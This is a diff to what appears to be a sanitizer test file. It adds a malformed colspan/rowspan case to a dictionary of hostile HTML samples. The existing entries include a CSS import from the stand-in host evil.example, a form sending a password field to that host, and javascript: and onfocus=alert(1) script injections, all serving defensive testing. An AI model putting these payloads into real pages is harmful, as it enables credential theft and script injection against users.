@@ -68,6 +68,7 @@ HOSTILE = {
     "style": "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
     "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
     "style on a table cell": '<table><tr><td style="text-align: right;position:fixed">x</td></tr></table>',
+    "spans beyond measure": '<table><td colspan="99999999" rowspan="1 x">x</td></table><ol start="1x"><li>y</ol>',
     "form": '<form action="https://evil.example"><input name=password>'
     '<button formaction="javascript:alert(1)">go</button></form>',
     "input of text": '<input type="text" value="x" autofocus onfocus=alert(1)>',
